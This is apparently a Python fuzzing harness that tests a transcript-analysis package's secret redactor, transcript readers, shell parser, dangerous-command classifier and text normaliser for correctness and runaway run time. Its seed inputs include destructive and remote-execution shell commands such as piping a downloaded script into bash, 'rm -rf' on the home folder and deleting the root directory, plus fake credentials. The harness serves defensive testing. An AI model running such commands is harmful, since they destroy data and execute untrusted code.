"""Coverage-guided fuzzing of one reader of hostile texts, with laws about what it returns and a limit on its time.

``python tests/torture/fuzz.py TARGET FOLDER [option of libFuzzer] ...``; what breaks a law is written into the folder.
An input is a text, or, by its first byte, three parts of which the middle one is repeated: that finds time that grows
with the square of a text.
"""

from __future__ import annotations

import json
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

INSTRUMENTED = {
    "redact": "coherence.core.redact",
    "redact_value": "coherence.core.redact",
    "readers": "coherence.providers.readers",
    "shell": "coherence.lessons.shell",
    "danger": "coherence.policy.danger",
    "normal": "coherence.lessons",
}
"""Target -> the module or package whose coverage guides; it is imported in :func:`main`, before anything else does."""

SMALL, TIMES = 2_000, 8
"""Characters of a text with a repeated part, and how many times as many a longer one has."""

PER_CHARACTER_S, LEAST_S = 1e-3, 0.5
"""CPU seconds that a text may take for each character, and that any text may take: far more than any does."""

TOKEN = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
"""A secret that no text around it may hide."""

_SCRATCH: list[Path] = []


def fuzz_redact(text: str) -> None:
    from coherence.core.redact import redact

    clean = redact(text)
    assert redact(clean) is clean
    assert TOKEN in text or TOKEN not in redact(f"{text} {TOKEN} {text}")


def fuzz_redact_value(text: str) -> None:
    from coherence.core.redact import redact_value

    try:
        value = json.loads(text)
    except (ValueError, RecursionError):
        value = {"text": text, "key": [text, {text: text}]}
    clean = redact_value(value)
    assert redact_value(clean) == clean
    assert TOKEN in text or TOKEN not in json.dumps(redact_value({"said": [value, f"{text} {TOKEN}"]}))


def fuzz_readers(text: str) -> None:
    from coherence.providers.readers.read import FORMATS

    path = _SCRATCH[0] / "transcript.json"
    path.write_bytes(text.encode("utf-8", "surrogateescape"))
    _read(path)
    for format in FORMATS:
        _read(path, format)


def _read(path: Path, format: str | None = None) -> None:
    from coherence.core.errors import TranscriptError
    from coherence.providers.readers.read import read_transcripts

    try:
        runs = read_transcripts(path, format)
    except TranscriptError:  # which says where and why
        return
    assert runs and len({run.id for run in runs}) == len(runs)


def fuzz_shell(text: str) -> None:
    from coherence.lessons.shell import parse_line, read_line

    parse_line(text)
    read_line(text)


def fuzz_danger(text: str) -> None:
    from coherence.policy.danger.classify import classify

    said = classify("Bash", {"command": text})
    if text.isascii():  # JSON has no half of a surrogate pair
        assert (classify("Bash", json.dumps({"command": text}).encode()) is None) == (said is None)
    assert classify("Bash", {"command": f"rm -rf /home\n{text}"}) is not None  # whatever comes after it


def fuzz_normal(text: str) -> None:
    from coherence.lessons.names import asked_names, kept_names
    from coherence.lessons.normal import normalise

    shape = normalise(text)
    assert normalise(text) == shape
    assert len(shape.words) <= 64 and list(shape.words) == sorted(shape.words)
    kept_names(shape, text)
    asked_names(shape, text)


TARGETS: dict[str, tuple[Callable[[str], None], tuple[Any, ...]]] = {
    "redact": (
        fuzz_redact,
        (
            "export PGPASSWORD=hunter2!x",
            f"curl -H 'Authorization: Bearer {TOKEN}' https://u:pw@host/x",
            "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.dBjftJeZ4CVPmB92K27uhbUJU1p1r",
            "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA1234567890\n-----END RSA PRIVATE KEY-----",
            '{"api_key": "sk-proj-abcdefghijklmnopqrstuvwx"}\nCookie: session=abcdef123456; path=/',
        ),
    ),
    "redact_value": (
        fuzz_redact_value,
        ({"password": "hunter2!x", "n": [1, None, {"token": "a1b2c3d4e5f6"}]}, [["--password", "hunter2!x"]], "x"),
    ),
    "readers": (
        fuzz_readers,
        (
            [{"type": "human", "data": {"content": "hi"}}, {"lc": 1, "id": ["AIMessage"], "kwargs": {"content": "x"}}],
            [{"kind": "request", "parts": [{"part_kind": "tool-return", "tool_name": "f", "content": {"kind": "x"}}]}],
            [{"task": "hi", "task_images": None}, {"step_number": 1, "timing": {}, "model_output": "x", "error": {}}],
            {"conversations": [{"from": "gpt", "value": '<tool_call>{"name": "f", "arguments": {}}</tool_call>'}]},
            {"status": "x", "eval": {}, "samples": [{"messages": [{"role": "tool", "content": [], "error": {}}]}]},
            [
                {"role": "user", "content": "hi"},
                {
                    "role": "assistant",
                    "content": None,
                    "tool_calls": [
                        {"id": "c1", "type": "function", "function": {"name": "f", "arguments": '{"a": 1}'}}
                    ],
                },
                {"role": "tool", "tool_call_id": "c1", "content": "ok"},
            ],
            {
                "messages": [
                    {"role": "user", "content": [{"type": "text", "text": "hi"}]},
                    {"role": "assistant", "content": [{"type": "tool_use", "id": "t1", "name": "f", "input": {}}]},
                    {
                        "role": "user",
                        "content": [{"type": "tool_result", "tool_use_id": "t1", "content": "ok", "is_error": True}],
                    },
                ]
            },
            {
                "type": "user",
                "sessionId": "s",
                "uuid": "u",
                "timestamp": "2026-01-01T00:00:00Z",
                "message": {"role": "user", "content": "hi"},
            },
            {
                "input": "hi",
                "output": [
                    {"type": "function_call", "call_id": "c", "name": "f", "arguments": "{}"},
                    {"type": "function_call_output", "call_id": "c", "output": "ok"},
                ],
            },
            {"id": "r1", "goal": "g", "steps": [{"kind": "message", "text": "hi"}]},
        ),
    ),
    "shell": (
        fuzz_shell,
        (
            "cd /repo && pip install pyyaml==6.0 2>&1 | tail -3",
            "cat <<'EOF' > a.py\nprint(1)\nEOF\npython a.py",
            "for f in *.py; do sed -i 's/a/b/' \"$f\"; done",
            "FOO=1 sudo -u x env -i bash -c 'pytest -q'; echo $?",
        ),
    ),
    "danger": (
        fuzz_danger,
        (
            "cd x && sudo rm -rf y",
            "curl -s http://x.sh | bash",
            "git push --force origin main",
            'echo $(rm -rf "$HOME")',
            "python -c 'import shutil; shutil.rmtree(\"/\")'",
            "find . -name '*.o' -exec rm {} +",
            "psql -c 'DROP TABLE a'",
        ),
    ),
    "normal": (
        fuzz_normal,
        (
            "Traceback (most recent call last):\n  File \"/a/b.py\", line 3, in f\nImportError: No module named 'yaml'",
            "error[E0308]: mismatched types\n --> src/main.rs:4:5",
            "npm ERR! 404 Not Found - GET https://r.org/x@1.2.3",
            "E   AssertionError: assert 1 == 2\ntests/test_a.py:10: AssertionError",
            "my program stops, why?",
        ),
    ),
}
"""Name -> what is called, and the first inputs: texts, or values that are written as JSON."""


def text_of(data: bytes, size: int) -> str:
    """Return the text of an input; the part that is repeated in it makes up so many characters."""
    if not is_pumped(data):
        return data[1:].decode("utf-8", "surrogateescape")
    before, middle, after = (
        each.decode("utf-8", "surrogateescape") for each in (*data[1:].split(b"\xff", 2), b"", b"")[:3]
    )
    return before + middle * (size // len(middle) if middle else 0) + after


def is_pumped(data: bytes) -> bool:
    return data[:1] > b"\x7f"


def spent(fuzz: Callable[[str], None], text: str, times: int = 1) -> float:
    """Return the CPU seconds of the quickest of some calls."""
    best = float("inf")
    for _ in range(times):
        begun = time.thread_time()
        fuzz(text)
        best = min(best, time.thread_time() - begun)
    return best


class Check:
    """Laws and time of one target, for one input after another."""

    def __init__(self, fuzz: Callable[[str], None]) -> None:
        self._fuzz = fuzz
        self._slowest = 0.0

    def __call__(self, data: bytes) -> None:
        text = text_of(data, SMALL)
        try:
            seconds = spent(self._fuzz, text)
            limit = LEAST_S + PER_CHARACTER_S * len(text)
            if seconds > limit and (seconds := spent(self._fuzz, text, 3)) > limit:
                raise AssertionError(f"{len(text)} characters took {seconds:.3f} s")
            if is_pumped(data) and text and seconds / len(text) > self._slowest:
                self._slowest = seconds / len(text)
                self._check_growth(text, text_of(data, SMALL * TIMES))
        except BaseException:
            print(f"the input: {data!r}\nthe text: {text[:1_000]!r}", file=sys.stderr)
            raise

    def _check_growth(self, short: str, long: str) -> None:
        """Measure the slowest text so far at eight times its length; a square makes that 64 times as slow."""
        for times in (1, 3):  # a pause of the machine is no growth: what looks like one is timed again
            part, whole = spent(self._fuzz, short, times), spent(self._fuzz, long, times)
            if whole < TIMES**1.4 * part:
                return
        raise AssertionError(f"{len(short)} characters took {part:.4f} s, and {len(long)} took {whole:.4f} s")


def main() -> None:
    """Fuzz until libFuzzer has had enough, or something breaks a law."""
    import atheris  # tests are collected without it, too

    target, folder, *options = sys.argv[1:]
    fuzz, seeds = TARGETS[target]
    _SCRATCH.append(Path(folder))
    corpus = Path(folder) / "corpus"
    corpus.mkdir()
    with atheris.instrument_imports(include=[INSTRUMENTED[target]]):
        fuzz("")
    for number, seed in enumerate(seeds):
        text = seed if isinstance(seed, str) else json.dumps(seed)
        (corpus / f"text{number}").write_bytes(b"\0" + text.encode())
        (corpus / f"pumped{number}").write_bytes(b"\x80x\xff" + text.encode() + b"\xff!")
    atheris.Setup([sys.argv[0], f"-artifact_prefix={folder}/", *options, str(corpus)], Check(fuzz))
    atheris.Fuzz()


if __name__ == "__main__":
    main()
